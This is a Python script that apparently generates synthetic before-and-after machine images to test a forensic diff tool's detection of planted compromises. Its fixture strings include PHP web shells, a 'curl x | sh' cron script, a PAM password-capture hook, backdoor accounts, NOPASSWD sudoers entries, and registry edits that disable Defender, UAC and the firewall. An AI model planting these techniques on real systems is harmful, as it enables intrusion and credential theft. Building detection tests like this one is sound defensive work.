#!/usr/bin/env python3
"""Makes machines before and after something happened, compares them with Assay, and says where the planted items stand.

    ASSAY=./assay releng/scenarios/scenarios.py [NAME ...]

Each scenario fills two folders and returns what it planted, as locations. The rest of what differs is noise that a benign machine makes.
Printed is, for each, how many changes there are, how many planted items have a row and how many of these stand in the first 20, 50 and 150,
how many startup rows there are, and how many rows above LOW are noise (HIGH ones in brackets).
"""
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ASSAY = os.environ.get("ASSAY", "./assay").split()
OLD = 1_600_000_000
NEW = 1_760_000_000
CHANCE = random.Random(7)


class Machine:
    """A folder before and after, with exports of the registry beside it."""

    def __init__(self, top, drive):
        self.before, self.after, self.drive = top / "before", top / "after", drive
        self.before.mkdir()
        self.registry = {"before": [], "after": []}
        self.planted = []
        self.hives = {}
        self.unmount = []

    def old(self, path, content, mode=0o644, time=OLD):
        write(self.before / path, content, mode, time)

    def copy(self):
        subprocess.run(["cp", "-a", str(self.before), str(self.after)], check=True)
        self.registry["after"] = list(self.registry["before"])

    def new(self, path, content, mode=0o644, time=NEW):
        write(self.after / path, content, mode, time)

    def plant(self, path, content, mode=0o644, time=NEW):
        self.new(path, content, mode, time)
        self.planted.append(self.location(path))

    def location(self, path):
        return "C:\\" + path.replace("/", "\\") if self.drive else "/" + path

    def key(self, side, key, *values):
        self.registry[side].append((key, values))

    def plant_value(self, key, name, data):
        self.key("after", key, (name, data))
        short = key.replace("HKEY_LOCAL_MACHINE", "HKLM").replace("HKEY_CURRENT_USER", "HKCU")
        self.planted.append(f"{short} [{name}]")


def write(path, content, mode, time):
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_symlink() or path.exists():
        path.unlink()
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    path.chmod(mode)
    os.utime(path, (time, time))


def chance(size):
    return CHANCE.randbytes(size)


def elf(seed):
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200) + seed.encode()


def pe(seed):
    return b"MZ" + bytes(58) + (128).to_bytes(4, "little") + bytes(64) + b"PE\0\0\x64\x86" + bytes(300) + seed.encode()


def document(at):
    kind = at % 4
    body = ("page %d of a document about nothing in particular. " % at) * 60
    return [b"PK\x03\x04\x14\0\0\0\x08\0" + chance(3000), b"%PDF-1.7\n" + body.encode(), b"\xff\xd8\xff\xe0\0\x10JFIF\0" + chance(3000),
            body.encode()][kind], ["docx", "pdf", "jpg", "txt"][kind]


# --- what machines are made of ------------------------------------------------------------------------------------------------------

def linux(machine):
    for at in range(300):
        machine.old(f"usr/bin/tool{at}", elf(f"tool {at}"), 0o755)
        machine.old(f"usr/lib/x86_64-linux-gnu/lib{at}.so.1", elf(f"lib {at}"))
        machine.old(f"usr/share/perl/5.36/unicore/{at}.pl", f"return <<'END';\n{at}\nEND\n")
    machine.old("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/bash\n")
    machine.old("etc/shadow", "root:*:1:0:99999:7:::\nwww-data:*:1:0:99999:7:::\nann:$6$a$b:1:0:99999:7:::\n", 0o640)
    machine.old("etc/group", "root:x:0:\nsudo:x:27:ann\nwww-data:x:33:\n")
    machine.old("etc/hosts", "127.0.0.1 localhost\n")
    machine.old("etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\n")
    machine.old("etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
    machine.old("etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\n")
    machine.old("etc/pam.d/common-auth", "auth required pam_unix.so\n")
    machine.old("etc/rc.local", "#!/bin/sh\nexit 0\n", 0o755)
    machine.old("etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n")
    machine.old("lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/bin/tool1\n")
    machine.old("home/ann/.bashrc", "alias ll='ls -l'\n")


def linux_week(machine):
    for at in range(700):
        machine.new(f"var/log/app/{at}.log", "line\n" * (at % 50 + 1))
        machine.new(f"var/cache/app/{at:04x}", chance(200))
    for at in range(40):
        machine.new(f"home/ann/notes/{at}.txt", f"note {at}")


def windows(machine):
    for at in range(300):
        machine.old(f"Windows/System32/part{at}.dll", pe(f"part {at}"))
        machine.old(f"Program Files/App/mod{at}.dll", pe(f"mod {at}"))
    for name in ("svchost.exe", "cmd.exe", "explorer.exe", "sethc.exe", "userinit.exe"):
        machine.old("Windows/System32/" + name, pe(name))
    machine.old("Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\r\n")
    cv = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion"
    machine.key("before", r"HKEY_CURRENT_USER\Software\App", ("Version", "1"))
    machine.key("before", cv + r"\Run", ("Driver", r'"C:\\Program Files\\App\\mod1.dll"'.strip('"')))
    machine.key("before", cv + r"\Policies\System", ("EnableLUA", 1))
    machine.key("before", r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\WinDefend", ("Start", 2))
    machine.key("before", r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\Terminal Server", ("fDenyTSConnections", 1))
    machine.key("before", r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon", ("Shell", "explorer.exe"),
                ("Userinit", r"C:\Windows\System32\userinit.exe,"))


def windows_week(machine):
    for at in range(800):
        machine.new(f"Users/ann/AppData/Local/Browser/Cache/f_{at:06x}", chance(300))
        machine.new(f"Windows/Prefetch/P{at}.pf", chance(300))
        machine.key("after", rf"HKEY_CURRENT_USER\Software\App\Recent\{at}", ("Used", at))
    for at in range(60):
        machine.new(f"Users/ann/Documents/report{at}.docx", document(at * 4)[0])


# --- what happens to them -----------------------------------------------------------------------------------------------------------

def clean_linux(machine):
    linux(machine)
    machine.copy()


def linux_persistence(machine):
    linux(machine)
    machine.copy()
    linux_week(machine)
    plant = machine.plant
    plant("etc/passwd", (machine.before / "etc/passwd").read_text() + "toor:x:0:0::/root:/bin/bash\n")
    plant("etc/shadow", (machine.before / "etc/shadow").read_text().replace("www-data:*", "www-data:$6$x$y"), 0o640)
    plant("etc/group", "root:x:0:\nsudo:x:27:ann,www-data\nwww-data:x:33:\n")
    plant("etc/sudoers.d/backup", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    plant("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza mallory\n", 0o600)
    plant("etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\n")
    plant("etc/hosts", "127.0.0.1 localhost\n10.6.6.6 deb.debian.org\n")
    plant("etc/pam.d/sshd", "auth sufficient pam_exec.so expose_authtok /usr/share/.p\n@include common-auth\naccount required pam_nologin.so\n")
    plant("usr/share/.p", "#!/bin/sh\ncat >> /tmp/.c\n", 0o755)
    plant("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsys.so.6\n")
    plant("usr/lib/x86_64-linux-gnu/libsys.so.6", elf("preloaded"))
    plant("etc/cron.d/sync", "* * * * * root /dev/shm/.x\n")
    plant("dev/shm/.x", "#!/bin/sh\ncurl x | sh\n", 0o755)
    plant("etc/systemd/system/sysd.service", "[Service]\nExecStart=/usr/bin/.sysd\n[Install]\nWantedBy=multi-user.target\n")
    plant("usr/bin/.sysd", elf("implant"), 0o755)
    plant("home/ann/.bashrc", "alias ll='ls -l'\n(/usr/bin/.sysd &)\n")
    plant("usr/bin/tool7", elf("tool 7"), 0o4755, OLD)
    plant("etc/rc.local", "#!/bin/sh\n/usr/bin/.sysd\nexit 0\n", 0o755)
    plant("usr/bin/tool9", elf("tool X"), 0o755, OLD)
    plant("etc/sysctl.d/99-x.conf", "kernel.core_pattern = |/usr/bin/.sysd %p\n")


def windows_persistence(machine):
    windows(machine)
    machine.copy()
    windows_week(machine)
    plant, value = machine.plant, machine.plant_value
    cv = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion"
    nt = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion"
    cs = r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet"
    plant("Users/Public/svchost.exe", pe("implant"))
    plant("Windows/Temp/holiday.jpg.exe", pe("implant"))
    plant("ProgramData/invoice.pdf", pe("disguised"))
    plant("Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\r\n0.0.0.0 update.microsoft.com\r\n")
    plant("Windows/System32/sethc.exe", pe("cmd.exe"), 0o644, OLD)
    plant("Users/ann/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.vbs", "CreateObject(\"WScript.Shell\")")
    value(cv + r"\Run", "Updater", r"C:\Users\Public\svchost.exe")
    value(cv + r"\RunOnce", "Once", r"C:\Windows\Temp\holiday.jpg.exe")
    value(nt + r"\Winlogon", "Shell", r"explorer.exe, C:\Users\Public\svchost.exe")
    value(nt + r"\Image File Execution Options\utilman.exe", "Debugger", r"C:\Windows\System32\cmd.exe")
    value(cv + r"\Policies\System", "EnableLUA", 0)
    value(cs + r"\Control\SecurityProviders\WDigest", "UseLogonCredential", 1)
    value(cs + r"\Control\Lsa", "DisableRestrictedAdmin", 0)
    value(cs + r"\Services\WinDefend", "Start", 4)
    value(cs + r"\Control\Terminal Server", "fDenyTSConnections", 0)
    value(r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions\Paths", r"C:\ProgramData", 0)
    value(nt + r"\Winlogon\SpecialAccounts\UserList", "support", 0)
    value(cs + r"\Services\SharedAccess\Parameters\FirewallPolicy\StandardProfile", "EnableFirewall", 0)
    value(r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", "Sync", r"wscript C:\Users\Public\s.js")
    value(cs + r"\Services\Helper", "ImagePath", r"C:\ProgramData\helper.exe")


def ransomware(machine, name, content, time):
    windows(machine)
    for at in range(2000):
        body, extension = document(at)
        machine.old(f"Users/ann/Documents/d{at % 40}/file{at}.{extension}", body)
    machine.copy()
    windows_week(machine)
    for at in range(2000):
        body, extension = document(at)
        path = f"Users/ann/Documents/d{at % 40}/file{at}.{extension}"
        if name(path) != path:
            (machine.after / path).unlink()
        machine.new(name(path), content(body), 0o644, time(at))
    for at in range(40):
        machine.new(f"Users/ann/Documents/d{at}/HOW_TO_DECRYPT.txt", "Pay.")
    machine.planted.append("MASS")
    machine.plant("Users/ann/AppData/Local/Temp/enc.exe", pe("encryptor"))
    machine.plant_value(r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "enc",
                        r"C:\Users\ann\AppData\Local\Temp\enc.exe")


def ransomware_renamed(machine):
    ransomware(machine, lambda path: path + ".locked", lambda body: chance(len(body)), lambda at: NEW + at // 10)


def ransomware_times_kept(machine):
    ransomware(machine, lambda path: path, lambda body: chance(len(body)), lambda at: OLD)


def ransomware_times_new(machine):
    ransomware(machine, lambda path: path, lambda body: chance(len(body)), lambda at: NEW + at // 10)


def rootkit(machine):
    linux(machine)
    machine.copy()
    linux_week(machine)
    for at in range(12):
        machine.plant(f"usr/bin/tool{at}", elf(f"tool {at}").replace(b"tool", b"t00l"), 0o755, OLD)


def web_shell(machine):
    linux(machine)
    page = "<?php\n// part %d of a site\nfunction part%d($a) { return htmlspecialchars($_GET['a'] ?? $a); }\n"
    for at in range(6000):
        extension = ["php", "css", "js", "png"][at % 4]
        body = page % (at, at) if extension == "php" else f"/* {at} */"
        machine.old(f"var/www/site/wp-content/p{at % 60}/f{at}.{extension}", body)
    machine.old("var/www/site/wp-content/themes/t/functions.php", page % (1, 1))
    machine.copy()
    linux_week(machine)
    for at in range(0, 6000, 2):
        extension = ["php", "css", "js", "png"][at % 4]
        body = page % (at, at + 1) if extension == "php" else f"/* {at} new */"
        machine.new(f"var/www/site/wp-content/p{at % 60}/f{at}.{extension}", body)
    for at in range(500):
        machine.new(f"var/www/site/wp-content/uploads/2026/{at}.jpg", document(at * 4 + 2)[0])
    machine.plant("var/www/site/wp-content/uploads/2026/img.php", "<?php @eval($_POST['x']);")
    machine.plant("var/www/site/wp-content/themes/t/functions.php", page % (1, 1) + "if(isset($_COOKIE['k'])) system($_COOKIE['k']);\n")
    machine.plant("var/www/site/wp-content/uploads/2026/cat.gif", "GIF89a;<?php eval(base64_decode($_REQUEST['q']));")
    machine.plant("var/www/site/.htaccess", "AddType application/x-httpd-php .gif\n")


def windows_benign_week(machine):
    """Nothing planted: a patch day, updates of a browser and of the antivirus, and what a week of use leaves."""
    windows(machine)
    side = r"Windows/WinSxS/amd64_microsoft-windows-part%d_31bf3856ad364e35_10.0.19041.%d_none_%016x"
    cv = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion"
    uninstall = cv + r"\Uninstall\Browser"
    for at in range(100):
        machine.old((side + "/part%d.dll") % (at, 1, at, at), pe(f"part {at}"))
        machine.old((side.replace("WinSxS", "WinSxS/Manifests") + ".manifest") % (at, 1, at), f"<assembly n='{at}'/>")
    for at in range(30):
        machine.old(f"Program Files/Browser/Application/101.0.1/b{at}.dll", pe(f"browser {at} 101"))
        machine.old(f"ProgramData/Microsoft/Windows Defender/Definition Updates/{{A}}/mpas{at}.vdm", chance(500))
    machine.key("before", uninstall, ("DisplayVersion", "101.0.1"), ("DisplayName", "Browser"))
    machine.old("Windows/System32/winevt/Logs/System.evtx", b"ElfFile\0" + chance(2000))
    machine.old("ProgramData/Microsoft/Network/Downloader/qmgr.db", chance(4000))
    machine.old("Users/ann/AppData/Roaming/Microsoft/Templates/Normal.dotm", b"PK\x03\x04" + chance(900))
    machine.old("Windows/System32/wbem/Repository/INDEX.BTR", chance(4000))
    machine.old("Users/ann/NTUSER.DAT.LOG1", chance(900))
    machine.copy()
    machine.registry["after"] = [(key, values) for key, values in machine.registry["after"] if key != uninstall]
    machine.key("after", uninstall, ("DisplayVersion", "102.0.3"), ("DisplayName", "Browser"))
    windows_week(machine)
    for at in range(100):
        machine.new((side + "/part%d.dll") % (at, 2, at + 1, at), pe(f"part {at} patched"))
        machine.new(f"Windows/System32/part{at}.dll", pe(f"part {at} patched"))
        machine.new((side.replace("WinSxS", "WinSxS/Manifests") + ".manifest") % (at, 2, at + 1), f"<assembly n='{at}' v='2'/>")
        machine.new(f"Windows/servicing/Packages/Package_{at}_for_KB50{at:04}~31bf3856ad364e35~amd64~~10.0.1.2.cat", chance(700))
        machine.key("after", cv + rf"\Component Based Servicing\Packages\Package_{at}_for_KB50{at:04}", ("CurrentState", 112))
    shutil.rmtree(machine.after / "Program Files/Browser/Application/101.0.1")
    for at in range(30):
        machine.new(f"Program Files/Browser/Application/102.0.3/b{at}.dll", pe(f"browser {at} 102"))
        machine.new(f"ProgramData/Microsoft/Windows Defender/Definition Updates/{{B}}/mpas{at}.vdm", chance(500))
    for path, body in (("Windows/System32/winevt/Logs/System.evtx", b"ElfFile\0"), ("ProgramData/Microsoft/Network/Downloader/qmgr.db", b""),
                       ("Users/ann/AppData/Roaming/Microsoft/Templates/Normal.dotm", b"PK\x03\x04"),
                       ("Windows/System32/wbem/Repository/INDEX.BTR", b""), ("Users/ann/NTUSER.DAT.LOG1", b"")):
        machine.new(path, body + chance(4000))
    for at in range(80):
        machine.new(f"Windows/Logs/CBS/CBS{at}.log", "line\n" * at)
        machine.new(f"Users/ann/AppData/Local/Microsoft/Edge/User Data/Default/Extensions/ext{at % 4}/1.{at}/main{at}.js", f"let a = {at};")
        machine.new(f"Windows/SoftwareDistribution/Download/{at:032x}/file.cab", b"MSCF" + chance(300))
    machine.key("after", cv + r"\WindowsUpdate\Auto Update\Results\Install", ("LastSuccessTime", "2026-11-20"))


def site_updated(machine):
    """A site and its plug-ins in new versions, with what it makes in its caches; few scripts of it run commands by trade."""
    linux(machine)
    page = "<?php\n// part %d of a site\nfunction part%d($a) { return htmlspecialchars($_GET['a'] ?? $a); }\n"
    tool = ("<?php\nclass C%d { function v() { return %d; }\n"
            "function g($c) { exec('git ' . escapeshellarg($c), $o); return base64_decode($o[0]); } }\n")
    site = "var/www/html/"
    for at in range(4000):
        machine.old(f"{site}wp-includes/d{at % 40}/f{at}.php", (page if at % 50 else tool) % (at, at))
    for at in range(600):
        machine.old(f"{site}wp-content/plugins/p{at % 20}/f{at}.php", (page if at % 50 else tool) % (at, at))
    machine.old(site + "wp-config.php", "<?php define('DB_NAME', 'x');")
    machine.copy()
    linux_week(machine)
    for at in range(0, 4000, 2):
        machine.new(f"{site}wp-includes/d{at % 40}/f{at}.php", (page if at % 50 else tool) % (at, at + 7))
    for at in range(300):
        machine.new(f"{site}wp-content/plugins/more/f{at}.php", (page if at % 50 else tool) % (at, at))
        machine.new(f"{site}wp-content/cache/super/h{at}.php", f"<?php die(); ?>page {at}")
        machine.new(f"{site}var/cache/prod/twig/{at:02x}/{at:064x}.php", page % (at, at))
        machine.new(f"{site}wp-content/uploads/2026/{at}.jpg", document(at * 4 + 2)[0])
    machine.plant(site + "wp-includes/d3/class-wp-cache.php", "<?php $f = base64_decode('YXNzZXJ0'); $f($_POST['x']);")
    machine.plant(site + "wp-content/plugins/p3/f43.php", page % (43, 43) + "@eval(gzinflate(base64_decode($_REQUEST['q'])));")
    machine.plant(site + "wp-content/uploads/2026/x.phtml", "<?php passthru($_GET['c']);")
    machine.plant(site + "wp-config.php", "<?php define('DB_NAME', 'x'); include '/tmp/.x.ico';")
    machine.plant("tmp/.x.ico", "<?php eval($_COOKIE['a']);")


def linux_benign_week(machine):
    """Nothing planted: what a developer, a browser, containers and servers leave in a week."""
    linux(machine)
    machine.old("home/ann/.bash_history", "ls\n")
    machine.old("var/lib/mysql/ibdata1", chance(5000))
    machine.copy()
    linux_week(machine)
    home = "home/ann/"
    for at in range(40):
        machine.new(f"opt/venv/lib/python3.11/site-packages/p{at}/__pycache__/m.cpython-311.pyc", b"\xa7\r\r\n" + chance(100))
        machine.new(f"{home}project/node_modules/n{at}/index.js", f"x={at}")
        machine.new(f"{home}project/node_modules/.bin/n{at}", "#!/usr/bin/env node\n", 0o755)
        machine.new(f"{home}.mozilla/firefox/a.default/storage/default/{at}/x.sqlite", chance(600))
        machine.new(f"{home}project/.git/objects/{at:02x}/{at:038x}", chance(80))
        machine.new(f"var/lib/docker/overlay2/{at:064x}/diff/usr/bin/d{at}", elf(f"d{at}"), 0o755)
        machine.new(f"var/cache/apt/archives/p{at}.deb", b"!<arch>\n" + chance(800))
        machine.new(f"var/log/journal/abc/system@{at}.journal", b"LPKSHHRH" + chance(800))
    machine.new(home + "project/run.sh", "#!/bin/sh\necho\n", 0o755)
    machine.new(home + "project/target/app", elf("mine"), 0o755)
    machine.new(home + ".bash_history", "ls\npwd\n")
    machine.new(home + ".ssh/known_hosts", "host ssh-ed25519 AAA")
    machine.new("etc/letsencrypt/archive/x/cert2.pem", "-----BEGIN CERTIFICATE-----\n2")
    machine.new("var/lib/mysql/ibdata1", chance(5000))


def windows_drivers_and_store(machine):
    """Nothing planted: drivers, packages of the store, native images and a program without a list in new versions."""
    windows(machine)
    cs = r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services"
    store = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Appx\AppxAllUserStore\Applications"
    uninstall = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\Browser"

    def version(side, put, now):
        for at in range(30):
            driver = f"Windows/System32/DriverStore/FileRepository/d{at}.inf_amd64_{at + 100 * now:016x}/d{at}"
            for name in (driver + ".sys", f"Windows/System32/drivers/d{at}.sys"):
                put(name, pe(f"driver {at} {now}"))
            put(driver + ".inf", f"[Version]\n{now}")
            put(driver + ".cat", chance(300))
            put(f"Windows/assembly/NativeImages_v4.0.30319_64/A{at}/{at + 1000 * now:032x}/A{at}.ni.dll", pe(f"image {at} {now}"))
            put(f"Program Files/WindowsApps/V.App{at % 5}_1.{now}.0.0_x64__8wek/f{at}.dll", pe(f"store {at} {now}"))
            put(f"Users/ann/AppData/Local/Meet/current/f{at}.dll", pe(f"meet {at} {now}"))
        put(f"Program Files/Browser/Application/10{now}.0.1/service.exe", pe(f"service {now}"))
        machine.key(side, cs + r"\BrowserService", ("ImagePath", rf"C:\Program Files\Browser\Application\10{now}.0.1\service.exe"))
        machine.key(side, uninstall, ("DisplayVersion", f"10{now}.0.1"), ("DisplayName", "Browser"))
        for at in range(5):
            machine.key(side, store + rf"\V.App{at}_1.{now}.0.0_x64__8wek", ("Path", "x"))

    version("before", machine.old, 1)
    before = list(machine.registry["before"])
    machine.copy()
    machine.registry["after"] = before[:-7]
    windows_week(machine)
    for at in range(30):
        shutil.rmtree(machine.after / f"Windows/System32/DriverStore/FileRepository/d{at}.inf_amd64_{at + 100:016x}")
    version("after", machine.new, 2)


def ransomware_in_parts(machine):
    """A quarter of each block is encrypted, on a server, under the old times."""
    linux(machine)
    for at in range(400):
        body, extension = document(at)
        machine.old(f"srv/share/team{at % 7}/d{at % 13}/file{at}.{extension}", body * 4)
    machine.copy()
    linux_week(machine)
    for at in range(400):
        body, extension = document(at)
        parts = bytearray(body * 4)
        for block in range(0, len(parts), 4096):
            parts[block:block + 1024] = chance(len(parts[block:block + 1024]))
        machine.new(f"srv/share/team{at % 7}/d{at % 13}/file{at}.{extension}", bytes(parts), 0o644, OLD)
    machine.planted.append("MASS")
    machine.plant("usr/local/bin/.e", elf("encryptor"), 0o755)


def windows_rootkit(machine):
    windows(machine)
    for at in range(20):
        machine.old(f"Windows/System32/drivers/drv{at}.sys", pe(f"drv{at}"))
    machine.copy()
    windows_week(machine)
    for at in range(5):
        machine.plant(f"Windows/System32/drivers/drv{at}.sys", pe(f"drv{at}").replace(b"drv", b"rkt"), 0o644, OLD)
        machine.plant(f"Windows/System32/part{at}.dll", pe(f"part {at}").replace(b"part", b"p4rt"), 0o644, OLD)
    machine.plant("Windows/System32/drivers/zz.sys", pe("zz"), 0o644, OLD)
    machine.plant_value(r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\zz", "ImagePath", r"system32\drivers\zz.sys")


def macos(machine):
    for at in range(200):
        machine.old(f"usr/bin/tool{at}", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(60) + str(at).encode(), 0o755)
        machine.old(f"System/Library/LaunchDaemons/com.apple.d{at}.plist", job(f"com.apple.d{at}", f"/usr/bin/tool{at}"))
    machine.old("etc/hosts", "127.0.0.1 localhost\n")
    machine.old("etc/sudoers", "root ALL = (ALL) ALL\n%admin ALL = (ALL) ALL\n", 0o440)
    machine.old("Users/ann/.zshrc", "alias ll='ls -l'\n")
    machine.old("Library/Preferences/com.apple.alf.plist", plist("<key>globalstate</key><integer>1</integer>"))
    machine.old("Library/Preferences/com.apple.SoftwareUpdate.plist", plist("<key>AutomaticCheckEnabled</key><true/>"))
    machine.old("Library/Preferences/com.apple.loginwindow.plist", plist("<key>GuestEnabled</key><false/>"))
    machine.old("etc/pam.d/sudo", "auth required pam_opendirectory.so\n")


def plist(inside):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
            '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict>' + inside + "</dict></plist>\n")


def job(label, program):
    return plist(f"<key>Label</key><string>{label}</string><key>ProgramArguments</key><array><string>{program}</string></array>"
                 "<key>RunAtLoad</key><true/>")


def macho(seed):
    return b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(100) + seed.encode()


def macos_persistence(machine):
    macos(machine)
    machine.copy()
    for at in range(600):
        machine.new(f"private/var/log/app{at}.log", "line\n" * at)
        machine.new(f"Users/ann/Library/Caches/app/{at:04x}", chance(200))
    plant = machine.plant
    plant("Library/LaunchDaemons/com.adobe.sync.plist", job("com.adobe.sync", "/Users/Shared/.sync"))
    plant("Users/Shared/.sync", macho("implant"), 0o755)
    plant("Users/ann/Library/LaunchAgents/com.a.plist", job("com.a", "/tmp/x"))
    plant("Users/ann/.zshrc", "alias ll='ls -l'\n(/Users/Shared/.sync &)\n")
    plant("etc/hosts", "127.0.0.1 localhost\n0.0.0.0 swscan.apple.com\n")
    plant("etc/sudoers", "root ALL = (ALL) ALL\n%admin ALL = (ALL) ALL\nann ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    plant("Users/ann/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza mallory\n", 0o600)
    plant("private/var/at/tabs/root", "* * * * * /Users/Shared/.sync\n", 0o600)
    plant("etc/periodic/daily/999.x", "#!/bin/sh\n/Users/Shared/.sync\n", 0o755)
    plant("usr/bin/tool7", macho("tool X"), 0o755, OLD)
    plant("Library/Preferences/com.apple.alf.plist", plist("<key>globalstate</key><integer>0</integer>"))
    plant("Library/Preferences/com.apple.SoftwareUpdate.plist", plist("<key>AutomaticCheckEnabled</key><false/>"))
    plant("Library/Preferences/com.apple.loginwindow.plist", plist("<key>LoginHook</key><string>/Users/Shared/.sync</string>"))
    plant("etc/pam.d/sudo", "auth sufficient pam_permit.so\nauth required pam_opendirectory.so\n")
    plant("Library/Extensions/x.kext/Contents/MacOS/x", macho("kernel"), 0o755)


def hives_only(machine):
    """One user's real hive before and after tampering."""
    hives = Path(os.environ["HIVES"])
    machine.before.rmdir()
    machine.hives = {"before": hives / "regipy/NTUSER.DAT", "after": hives / "regipy/NTUSER_modified.DAT"}
    user = "HKU\\ann\\Software\\Microsoft\\"
    machine.planted += [user + "Windows\\CurrentVersion\\Run [not_a_malware]", user + "legitimate_subkey [totaly_not_malicious]"]


def signed(path, content, key, timestamp=""):
    """A Windows program with {@code content} behind it, signed by a key that is made for the purpose."""
    path.parent.mkdir(parents=True, exist_ok=True)
    import pip
    launcher = Path(pip.__file__).parent / "_vendor/distlib/w64.exe"
    plain = path.with_name(path.name + ".plain")
    plain.write_bytes(launcher.read_bytes() + content.encode().ljust(64, b" "))
    pem = path.parents[len(path.parents) - 3] / (key + ".pem")
    if not pem.exists():
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "9000", "-subj", "/CN=" + key.split("-")[0],
                        "-keyout", str(pem), "-out", str(pem) + ".crt"], check=True, capture_output=True)
    path.unlink(missing_ok=True)
    subprocess.run(["osslsigncode", "sign", "-certs", str(pem) + ".crt", "-key", str(pem), "-in", str(plain), "-out", str(path)], check=True,
                   capture_output=True)
    plain.unlink()
    os.utime(path, (NEW, NEW))


def impostors(machine):
    for at in range(30):
        signed(machine.before / f"Program Files/Vendor/p{at}.exe", f"version 1 of {at}", "Vendor")
    machine.copy()
    for at in range(30):
        signed(machine.after / f"Program Files/Vendor/p{at}.exe", f"version 2 of {at}", "Vendor")
    def planted(at):
        path = f"Program Files/Vendor/p{at}.exe"
        machine.planted.append(machine.location(path))
        return machine.after / path
    signed(planted(3), "made by another with the same name", "Vendor-made up")
    signed(planted(7), "made by another", "Mallory")
    planted(11).write_bytes((machine.before / "Program Files/Vendor/p11.exe").read_bytes()[:-9000] + b"unsigned")
    broken = bytearray((machine.after / "Program Files/Vendor/p19.exe").read_bytes())
    broken[5000:5008] = b"implant!"
    planted(19).write_bytes(broken)


def streams(machine):
    """On NTFS, mounted by ntfs-3g: needs root."""
    mounts = []
    for side in ("before", "after"):
        image, folder = machine.before.parent / (side + ".img"), getattr(machine, side)
        folder.mkdir(exist_ok=True)
        subprocess.run(["truncate", "-s", "40M", str(image)], check=True)
        subprocess.run(["mkntfs", "-F", "-Q", str(image)], check=True, capture_output=True)
        subprocess.run(["ntfs-3g", "-o", "streams_interface=windows", str(image), str(folder)], check=True)
        mounts.append(folder)
        for at in range(40):
            for name in (f"Windows/System32/part{at}.dll", f"Users/ann/Documents/d{at}.txt", f"Users/ann/Downloads/a{at}.zip"):
                write(folder / name, pe(name) if name.endswith("dll") else name, 0o644, OLD)
            Path(str(folder / f"Users/ann/Downloads/a{at}.zip") + ":Zone.Identifier").write_text("[ZoneTransfer]\r\nZoneId=3\r\n")
    machine.unmount = mounts
    for at in range(40, 80):
        write(machine.after / f"Users/ann/Downloads/a{at}.zip", f"{at}", 0o644, NEW)
        Path(str(machine.after / f"Users/ann/Downloads/a{at}.zip") + ":Zone.Identifier").write_text("[ZoneTransfer]\r\nZoneId=3\r\n")
    for path, content in (("Windows/System32/part3.dll:x.exe", pe("hidden")), ("Users/ann/Documents/d4.txt:s.vbs", b"CreateObject(\"WScript.Shell\")"),
                          ("Windows/System32:svc.dll", pe("folder")), ("Users/ann/Downloads/a5.zip:Zone.Identifier", pe("zone"))):
        Path(str(machine.after / path)).write_bytes(content)
        machine.planted.append(machine.location(path))


INSTALLED = ("openssh-server nginx php-fpm cron at sudo rsyslog git python3 postfix systemd udev dbus polkitd vim man-db").split()


def debian():
    """A Debian as debootstrap leaves it, and the same with packages installed by apt; made once, in the folder $DEBIAN, as root."""
    top = Path(os.environ["DEBIAN"])
    if not (top / "made").exists():
        run = lambda *words: subprocess.run(words, check=True, stdout=subprocess.DEVNULL, env=dict(os.environ, DEBIAN_FRONTEND="noninteractive"))
        run("debootstrap", "--variant=minbase", "bookworm", str(top / "base"))
        run("cp", "-a", str(top / "base"), str(top / "after"))
        shutil.copy("/etc/resolv.conf", top / "after/etc/resolv.conf")
        run("chroot", str(top / "after"), "apt-get", "update")
        run("chroot", str(top / "after"), "apt-get", "install", "-y", "--no-install-recommends", *INSTALLED)
        (top / "made").touch()
    return top


def packages_installed(machine):
    top = debian()
    machine.before.rmdir()
    subprocess.run(["cp", "-a", str(top / "base"), str(machine.before)], check=True)
